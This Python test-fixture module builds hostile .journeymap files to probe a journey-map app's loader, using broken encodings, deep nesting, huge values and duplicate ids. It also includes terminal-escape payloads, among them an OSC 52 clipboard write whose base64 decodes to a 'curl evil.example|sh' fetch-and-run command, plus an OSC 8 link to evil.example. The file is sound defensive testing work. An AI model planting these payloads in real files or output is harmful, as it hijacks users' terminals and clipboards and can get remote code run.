"""Hostile .journeymap files, as bytes, built from one small valid map (12 cards, 1 segment).

Three families: broken files (truncated, wrong encodings, NUL bytes, deep nesting, huge values,
schema versions, duplicate keys and ids, wrong types), valid maps whose every text field carries a
terminal payload (ANSI/OSC escapes, carriage returns, backspaces, bidi and line-separator controls),
and (in ``places.py``) paths that are not regular files at all.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from functools import cache
from typing import Any

from journeymap_designer.model.fileformat import DocumentError, dump_workspace, parse_workspace
from journeymap_designer.model.generate import generate_workspace

SEGMENT_ID, SEGMENT_NAME = "seg-00", "Segment 1"

# What a shared map could hide in its text to act on the reader's terminal.
PAYLOADS: dict[str, str] = {
    "csi-colour": "\x1b[31;1mRED\x1b[0m",
    "csi-erase": "\x1b[2J\x1b[H",
    "osc-title": "\x1b]0;pwned\x07",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "osc8-link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "cr-backspace": "safe\rEVIL\b\b\b\bX",
    "c1-csi": "\x9b31m\x9d0;t\x9c",
    "del-bell-nul": "\x7f\x07\x00",
    "bidi-override": "\u202egpj.exe\u202c",
    "bidi-isolates": "\u2066\u2067\u2068x\u2069\u200f\u061c",
    "line-separators": "a\u2028b\u2029c\u0085d\x0bx\x0cy",
    "newline-tab": "one\ntwo\tthree",
}


@cache
def base_map() -> bytes:
    """The canonical bytes of the small valid map every case starts from."""
    return dump_workspace(generate_workspace(12, 1, seed=3))


def _data() -> dict[str, Any]:
    return dict(json.loads(base_map()))


def _encode(data: object) -> bytes:
    return json.dumps(data, indent=1, ensure_ascii=False).encode("utf-8")


def _leaves(node: Any, key: str | None = None) -> list[tuple[Any, Any, str]]:
    """(container, index, key) of every string leaf; ``key`` is the field name it sits under."""
    found: list[tuple[Any, Any, str]] = []
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else []
    for index, value in items:
        name = index if isinstance(index, str) else key
        if isinstance(value, str) and name is not None:
            found.append((node, index, name))
        else:
            found.extend(_leaves(value, name))
    return found


def _valid(data: dict[str, Any]) -> bool:
    try:
        parse_workspace(_encode(data))
    except DocumentError:
        return False
    return True


@cache
def text_fields(payload: str) -> frozenset[str]:
    """The field names whose every value may carry ``payload`` and still load (ids, enums, colours
    and dates refuse it): found by trying each field name in turn."""
    names = {name for _c, _i, name in _leaves(_data())}
    keep = set()
    for name in sorted(names - {"format"}):
        data = _data()
        for container, index, field in _leaves(data):
            if field == name:
                container[index] = container[index] + payload
        if _valid(data):
            keep.add(name)
    return frozenset(keep)


def with_payload(payload: str) -> bytes:
    """The base map with ``payload`` appended to every text field that accepts it (and every key of
    the segment's field overrides stays as it is)."""
    data = _data()
    fields = text_fields(payload)
    for container, index, field in _leaves(data):
        if field in fields:
            container[index] = container[index] + payload
    return _encode(data)


def _edit(change: Callable[[dict[str, Any]], object]) -> Callable[[], bytes]:
    def build() -> bytes:
        data = copy.deepcopy(_data())
        change(data)
        return _encode(data)

    return build


def _set(path: str, value: object) -> Callable[[dict[str, Any]], object]:
    """A change that sets the field at a slash path (list items by index) to ``value``."""

    def change(data: dict[str, Any]) -> None:
        *parents, last = path.split("/")
        node: Any = data
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return change


def _duplicate(collection: str) -> Callable[[dict[str, Any]], object]:
    def change(data: dict[str, Any]) -> None:
        items = data["core"][collection]
        items.append(copy.deepcopy(items[0]) | {"order": 999})

    return change


def _replace(old: bytes, new: bytes, count: int = 1) -> Callable[[], bytes]:
    return lambda: base_map().replace(old, new, count)


def _deep(opening: str, closing: str, depth: int = 200_000) -> Callable[[], bytes]:
    return lambda: base_map()[:-3] + f', "deep": {opening * depth}{closing * depth}}}\n'.encode()


BROKEN: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "whitespace": lambda: b" \n\t\r\n",
    "one-byte": lambda: base_map()[:1],
    "truncated-half": lambda: base_map()[: len(base_map()) // 2],
    "truncated-last-byte": lambda: base_map()[:-2],
    "truncated-mid-escape": lambda: _encode(_data() | {"name": "x\u00e9"})[:-3] + b'"\\u00',
    "json-null": lambda: b"null",
    "json-list": lambda: b"[]",
    "json-string": lambda: b'"journeymap"',
    "json-number": lambda: b"42",
    "json-empty-object": lambda: b"{}",
    "format-missing": _edit(lambda d: d.pop("format")),
    "format-other": _edit(_set("format", "journeymap\x1b[2J")),
    "utf16-le-bom": lambda: b"\xff\xfe" + base_map().decode().encode("utf-16-le"),
    "utf16-be-bom": lambda: b"\xfe\xff" + base_map().decode().encode("utf-16-be"),
    "utf16-no-bom": lambda: base_map().decode().encode("utf-16-le"),
    "utf32-bom": lambda: base_map().decode().encode("utf-32"),
    "utf8-bom": lambda: b"\xef\xbb\xbf" + base_map(),
    "utf8-double-bom": lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + base_map(),
    "latin1": lambda: _encode(_data() | {"name": "Caf\u00e9 \u00fcber"}).decode().encode("latin-1"),
    "invalid-utf8": _replace(b'"name": "', b'"name": "\xff\xfe'),
    "overlong-utf8": _replace(b'"name": "', b'"name": "\xc0\xaf'),
    "raw-surrogate-utf8": _replace(b'"name": "', b'"name": "\xed\xa0\x80'),
    "escaped-lone-surrogate": _replace(b'"name": "', b'"name": "\\ud800'),
    "raw-nul-byte": _replace(b'"name": "', b'"name": "\x00'),
    "nul-after-json": lambda: base_map() + b"\x00" * 64,
    "escaped-nul": _replace(b'"name": "', b'"name": "\\u0000'),
    "raw-control-in-string": _replace(b'"name": "', b'"name": "\x1b[2J'),
    "deep-arrays": lambda: b"[" * 200_000 + b"]" * 200_000,
    "deep-objects": lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep-in-field": _deep("[", "]"),
    "deep-in-description": _replace(
        b'"description": ""', b'"description": ' + b"[" * 100_000 + b"]" * 100_000
    ),
    "huge-string": _edit(_set("name", "N" * 20_000_000)),
    "huge-description": _edit(_set("core/touchpoints/0/description", "\u202e" * 2_000_000)),
    "huge-list": _edit(_set("core/touchpoints/0/pain_points", ["x"] * 20_000)),
    "huge-integer": _replace(b'"order": 0', b'"order": ' + b"9" * 5000),
    "big-integer": _replace(b'"order": 0', b'"order": ' + str(2**80).encode()),
    "huge-exponent": _replace(b'"emotion": 0', b'"emotion": 1e999'),
    "negative-zero": _replace(b'"emotion": 0', b'"emotion": -0.0'),
    "nan-literal": _replace(b'"emotion": 0', b'"emotion": NaN'),
    "infinity-literal": _replace(b'"emotion": 0', b'"emotion": -Infinity'),
    "kpi-huge-float": _replace(b'"minimum": 10.0', b'"minimum": 1.7976931348623157e308'),
    "schema-0": _edit(_set("schema_version", 0)),
    "schema-negative": _edit(_set("schema_version", -1)),
    "schema-99": _edit(_set("schema_version", 99)),
    "schema-string": _edit(_set("schema_version", "4")),
    "schema-float": _edit(_set("schema_version", 3.5)),
    "schema-null": _edit(_set("schema_version", None)),
    "schema-bool": _edit(_set("schema_version", True)),
    "schema-huge": _edit(_set("schema_version", 10**40)),
    "schema-missing": _edit(lambda d: d.pop("schema_version")),
    "duplicate-top-key": _replace(b'"name": "', b'"name": "first", "name": "'),
    "duplicate-nested-key": _replace(b'"title": "', b'"title": "a", "title": "'),
    "duplicate-card-ids": _edit(_duplicate("touchpoints")),
    "duplicate-stage-ids": _edit(_duplicate("stages")),
    "duplicate-flow-ids": _edit(_duplicate("flows")),
    "duplicate-segment-ids": _edit(lambda d: d["segments"].append(copy.deepcopy(d["segments"][0]))),
    "dangling-flow": _edit(_set("core/flows/0/target", "tp-nowhere\x1b[2J")),
    "self-loop-flow": _edit(lambda d: d["core"]["flows"][0].update(target=d["core"]["flows"][0]["source"])),
    "hostile-id": _edit(_set("core/touchpoints/0/id", "tp-\x1b]0;x\x07\u202e")),
    "card-in-missing-stage": _edit(_set("core/touchpoints/0/stage_id", "stg-\u2028gone")),
    "cards-as-object": _edit(_set("core/touchpoints", {"tp": 1})),
    "title-as-number": _edit(_set("core/touchpoints/0/title", 7)),
    "title-as-list": _edit(_set("core/touchpoints/0/title", ["\x1b[31m"])),
    "unknown-field": _edit(lambda d: d.update({"\x1b]0;x\x07": 1, "__proto__": {}})),
    "long-key": _edit(lambda d: d.update({"k" * 1_000_000: 1})),
    "emotion-out-of-range": _replace(b'"emotion": 0', b'"emotion": 99'),
    "order-negative": _replace(b'"order": 0', b'"order": -5'),
    "no-core": _edit(lambda d: d.pop("core")),
}


@cache
def refused(case: str) -> bool:
    """Whether the loader refuses the case (then only the commands' loading paths are probed)."""
    try:
        parse_workspace(cases()[case]())
    except DocumentError:
        return True
    return False


@cache
def cases() -> dict[str, Callable[[], bytes]]:
    """Every hostile map, by a readable id: the broken ones and one per payload."""
    found = dict(BROKEN)
    for name, payload in PAYLOADS.items():
        found[f"text-{name}"] = lambda p=payload: with_payload(p)  # type: ignore[misc]
    found["text-all"] = lambda: with_payload("".join(PAYLOADS.values()))
    return found
